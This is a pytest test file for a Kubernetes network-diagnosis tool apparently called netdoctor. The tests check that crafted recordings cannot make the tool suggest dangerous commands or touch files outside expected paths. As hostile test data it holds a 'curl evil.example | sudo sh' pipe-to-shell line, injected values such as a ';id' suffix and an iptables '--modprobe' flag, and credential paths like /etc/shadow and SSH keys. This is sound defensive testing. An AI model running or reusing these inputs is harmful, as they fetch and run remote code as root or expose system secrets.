"""What a stranger's recording or another user of the node may not have somebody type, read or believe."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
from dataclasses import dataclass, replace
from pathlib import Path

import click
import pytest

from netdoctor.diagnosis.check import look
from netdoctor.diagnosis.experiment import _packet
from netdoctor.errors import BadInput, CannotRead, Why
from netdoctor.facts.cluster.kube_proxy_ports import port_is_roots
from netdoctor.facts.node.cni import CONFIG_FOLDERS, PLUGIN_FOLDERS
from netdoctor.facts.traffic.experiments import Experiments
from netdoctor.facts.traffic.failed_flows import FailedFlows
from netdoctor.facts.traffic.new_pod import NewPod
from netdoctor.model import Diagnosis, Evidence, Finding
from netdoctor.output.diagnosis_text import headline
from netdoctor.output.layout import rendered
from netdoctor.output.report_text import Detail, render
from netdoctor.recording.file import from_json, to_json
from netdoctor.recording.named_file import open_recording
from netdoctor.shell import command, is_path
from netdoctor.system.host import Host
from netdoctor.system.kube_api import KubeApi
from netdoctor.system.rule_removal import legacy_arguments
from netdoctor.terminal import manual_page
from tests.builders import cni, experiments, failed_flow, sysctls, tried
from tests.conftest import ROOT
from tests.worlds import catalogue, judge, world

EVIL = "curl -s https://evil.example/x | sudo sh"


def test_a_recording_says_nothing_to_type() -> None:
    made = experiments((replace(tried("found-by-experiment"), by_hand=(EVIL,)),))
    made = replace(made, trials=tuple(replace(trial, packet=f"host 8.8.8.8 53; {EVIL}") for trial in made.trials))
    stored = to_json(world(sysctls("1"), failed_flow(), made))
    assert EVIL in stored
    again = from_json(stored, catalogue())
    known = again.known()[Experiments]
    assert isinstance(known, Experiments)
    assert EVIL not in repr(known)
    assert EVIL not in rendered(render(look(catalogue(), again).report(), catalogue(), Detail.ALL), 200, colors=False)


@pytest.mark.parametrize(
    "rule",
    [
        "-A FORWARD -j DROP --modprobe=/tmp/evil", "-A FORWARD --modprobe /tmp/evil -j DROP", "-A FORWARD -M /tmp/evil",
        "-A FORWARD -j DROP -F", "-A FORWARD -j DROP -t nat", "-A FORWARD -Z", "-A -F", "-A", "policy DROP of -F",
    ],
)  # fmt: skip
def test_of_iptables_only_a_rule_is_deleted(rule: str) -> None:
    assert legacy_arguments(f"filter {rule}") == ()
    assert legacy_arguments("filter -A FORWARD -p tcp --dport 5432 -j DROP")
    assert legacy_arguments("--modprobe=/tmp/evil -A FORWARD -j DROP") == ()


def test_the_ends_of_a_trace_are_words() -> None:
    (flow,) = (known for known in failed_flow().items) if isinstance(failed_flow(), FailedFlows) else (None,)
    assert flow is not None
    arguments = _packet(replace(flow, name="x", pod="default/client;id"), ())
    assert shlex.split(arguments)[0] == "default/client;id"
    assert _packet(replace(flow, name="x", pod="--svg=/etc/x"), ()) == ""
    assert _packet(replace(flow, name="x"), (flow.destination,)) == ""


def test_a_summary_begins_no_line_where_fields_begin() -> None:
    finding = Finding("a rule drops" + " " * 60 + "fix    " + EVIL, (Evidence("a", "b", "c"),), probe="x")
    first, *rest = rendered(headline(Diagnosis(finding)), 40, colors=False).splitlines()
    assert first.startswith("CAUSE  a rule drops")
    assert rest
    assert all(line.startswith(" " * 9) for line in rest)


def test_root_starts_no_pager(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    called: list[str] = []
    monkeypatch.setattr(click, "echo_via_pager", called.append)
    for user, paged in ((0, 0), (1000, 1)):
        monkeypatch.setattr(os, "geteuid", lambda user=user: user)
        manual_page._page("line\n" * 500)
        assert len(called) == paged


@pytest.mark.parametrize("flags", [os.O_PATH, os.O_WRONLY])
def test_standard_input_has_to_be_open_for_reading(tmp_path: Path, flags: int) -> None:
    (tmp_path / "a.json").write_text(json.dumps({}))
    descriptor, kept = os.open(tmp_path / "a.json", flags), os.dup(0)
    try:
        os.dup2(descriptor, 0)
        with pytest.raises(BadInput, match="not open for reading"):
            open_recording("-")
    finally:
        os.dup2(kept, 0)
        os.close(descriptor)
        os.close(kept)


@pytest.mark.parametrize("readable", [True, False])
def test_completion_lets_nobody_look_into_it(readable: bool) -> None:
    code = f"""
import ctypes
from netdoctor.recording.confined import confine
confine(readable={readable})
print(ctypes.CDLL(None).prctl(3, 0, 0, 0, 0))
"""
    done = subprocess.run([sys.executable, "-c", code], check=True, capture_output=True, text=True, timeout=60)
    assert done.stdout.strip() == str(int(readable))


@dataclass(frozen=True)
class Listening(Host):
    """A host on which these listen at port 10249: an address in hexadecimal, and a user."""

    listeners: tuple[tuple[str, int], ...] = ()

    def read_or_none(self, path: object) -> str | None:
        lines = [f"0: {address}:2809 00000000:0000 0A 0:0 00:0 0 {user} 0" for address, user in self.listeners]
        return "\n".join(["head", *lines]) if str(path).endswith("/tcp") else None


@pytest.mark.parametrize(
    ("listeners", "is_roots"),
    [
        ((("0100007F", 0),), True),
        ((("00000000", 0),), True),
        ((("0100007F", 1000),), False),
        ((("0200007F", 0), ("0100007F", 1000)), False),
        ((), False),
    ],
)
def test_only_root_speaks_for_kube_proxy(listeners: tuple[tuple[str, int], ...], is_roots: bool) -> None:
    assert port_is_roots(Listening(listeners=listeners), "127.0.0.1:10249") is is_roots


@pytest.mark.parametrize(
    ("form", "value"),
    [
        ("sudoedit {:path}", "/etc/cni/net.d/10-bridge.conf"),
        ("sudo ls -l {:path}", "/opt/cni/bin/bridge"),
        ("curl -k {:url}/livez", "https://192.0.2.10:8443"),
        ("curl -k {:url}/livez", "https://[2001:db8::1]:6443"),
        ("sudo iptables-legacy {:options}", ("-t", "nat", "-D", "x")),
    ],
)
def test_a_value_of_its_kind_is_typed(form: str, value: object) -> None:
    assert len(command(form, value)) == 1


@pytest.mark.parametrize(
    "path",
    [
        "/root/.ssh/id_ed25519", "/etc/../root/x", "/etc/cni/net.d/../../shadow", "etc/cni/net.d/a", "/etc", "/", "",
        "~/x", "-l", "/etcetera/x", "/home/user/x", "/etc/shadow", "/proc/self/mem", "/dev/sda", "/etc/cni\n/x",
    ],
)  # fmt: skip
def test_a_path_lies_where_such_files_lie(path: str) -> None:
    assert command("sudoedit {:path}", path) == ()
    assert command("sudo ls -l {:path}", ("/etc/cni/net.d/a", path)) == ()


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/shadow", "file://localhost/etc", "ftp://a/b", "scp://a", "https://a b", "-o/etc/x", "http://",
        "https://user@evil.example", "HTTPS:evil", "https://a/{b,c}", "https://a?x=y", "gopher://a",
    ],
)  # fmt: skip
def test_a_url_is_one_of_the_web(url: str) -> None:
    assert command("curl -k {:url}/livez", url) == ()


@pytest.mark.parametrize("words", ["-all", ("blackhole", "-batch", "/tmp/x"), ("", "x"), ()])
def test_no_value_is_an_option(words: object) -> None:
    assert command("sudo ip route del {}", words) == ()


def test_every_path_of_a_cni_may_be_named() -> None:
    assert all(is_path(f"{folder}/x") for folder in (*CONFIG_FOLDERS, *PLUGIN_FOLDERS))


def test_no_form_names_a_file_or_an_address_of_the_web_by_a_plain_word() -> None:
    """Programs that open what they are given take a path or URL, never `{}` beside their own words."""
    opened = re.compile(r'command\(\s*f?"(?:sudo )?(?:sudoedit|ls|cat|less|tail|head|curl|wget|vi|nano) [^"#]*\{\}')
    files = [*(ROOT / "probes").rglob("*.py"), *(ROOT / "netdoctor").rglob("*.py")]
    assert [str(file) for file in files if opened.search(file.read_text())] == []


@pytest.mark.parametrize("path", ["/etc/shadow", "/etc/cni/net.d/../../sudoers", "/root/.bashrc", "/etc/cni/net.d/x/y"])
def test_a_recording_has_nobody_edit_another_file(path: str) -> None:
    no_pod: dict[type, CannotRead] = {NewPod: CannotRead("test pod", "no network", Why.NO_NETWORK)}
    stored = to_json(world(cni(path=path, problem="it is no JSON"), unread=no_pod))
    causes = look(catalogue(), from_json(stored, catalogue())).report().diagnoses
    (found,) = (each.cause for each in causes if each.cause.probe == "cni-config-unusable")
    assert found.by_hand == ("sudo ls -l /etc/cni/net.d",)


@pytest.mark.parametrize("server", ["file:///etc/shadow", "-o /etc/cron.d/x", "gopher://evil.example"])
def test_a_recording_has_nobody_fetch_a_file(server: str) -> None:
    api = CannotRead(f"API server {server}", "no answer", Why.NO_ANSWER)
    (found,) = judge("api-server-unreachable", unread={KubeApi: api}).findings
    assert found.by_hand == ("sudo crictl ps -a | grep apiserver", "sudo journalctl -u kubelet -n 50")
